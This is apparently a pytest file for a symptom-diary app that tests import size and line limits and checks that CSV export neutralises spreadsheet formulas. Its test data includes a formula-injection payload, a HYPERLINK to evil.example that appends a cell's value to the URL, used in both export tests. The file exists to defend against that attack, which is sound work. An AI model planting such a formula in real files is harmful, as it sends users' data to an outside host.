"""An import file cannot fill the memory (review F16): size and line caps, a clear message."""

from __future__ import annotations

from pathlib import Path

import pytest

from spasmnav.diary import io as diary_io
from spasmnav.diary.io import import_file
from spasmnav.diary.models import Episode, InputError
from spasmnav.diary.store import Store


def test_an_endless_file_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(diary_io, "MAX_IMPORT_BYTES", 2 * 1024 * 1024)
    store = Store(f"sqlite:///{tmp_path}/d.db")
    try:
        with pytest.raises(InputError, match="больше 2 МБ"):
            import_file(store, Path("/dev/zero"), person_id=store.default_person_id(), fmt="csv")
        assert store.count_records(Episode, person_id=store.default_person_id()) == 0
    finally:
        store.close()


def test_an_endless_line_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "one-line.csv"
    path.write_text("kind,started_at\n" + "x" * (diary_io.MAX_IMPORT_LINE + 10) + "\n")
    store = Store(f"sqlite:///{tmp_path}/d.db")
    try:
        with pytest.raises(InputError, match="строка 2: длиннее"):
            import_file(store, path, person_id=store.default_person_id())
    finally:
        store.close()


def test_csv_export_neutralises_formulas_and_reads_back_exactly(tmp_path: Path) -> None:
    """Spreadsheet-bound CSV: every cell a spreadsheet would run gets a leading apostrophe;
    importing the file back gives the texts exactly as typed (review F5)."""
    import io

    from spasmnav.diary.io import export_file, read_csv
    from spasmnav.diary.models import Episode

    texts = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+2",
        "-5 минут",
        "@SUM(A1)",
        "\tтаб",
        "\rвозврат",
        "'=уже с апострофом",
        "'обычный апостроф",
        "обычный текст",
    ]
    store = Store(f"sqlite:///{tmp_path}/d.db")
    try:
        pid = store.default_person_id()
        for i, t in enumerate(texts):
            store.add_episode(
                person_id=pid,
                episode=Episode(
                    kind="cramp", started_at=f"2024-05-01T10:{i:02d}", note=t, place=t[:200]
                ),
            )
        out = io.StringIO()
        export_file(store, out, person_id=pid, fmt="csv")
        import csv

        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        for row in rows:
            for col in ("note", "place"):
                assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r")), row[col]
        back = read_csv(io.StringIO(out.getvalue(), newline=""), model=Episode)
        assert [e.note for e in back] == [t.strip() for t in texts]
    finally:
        store.close()


def test_json_export_stays_exact(tmp_path: Path) -> None:
    import io
    import json

    from spasmnav.diary.io import export_file
    from spasmnav.diary.models import Episode

    formula = '=HYPERLINK("http://evil.example","x")'
    store = Store(f"sqlite:///{tmp_path}/d.db")
    try:
        pid = store.default_person_id()
        store.add_episode(
            person_id=pid,
            episode=Episode(kind="cramp", started_at="2024-05-01T10:00", note=formula),
        )
        out = io.StringIO()
        export_file(store, out, person_id=pid, fmt="json")
        assert json.loads(out.getvalue())["episodes"][0]["note"] == formula
    finally:
        store.close()
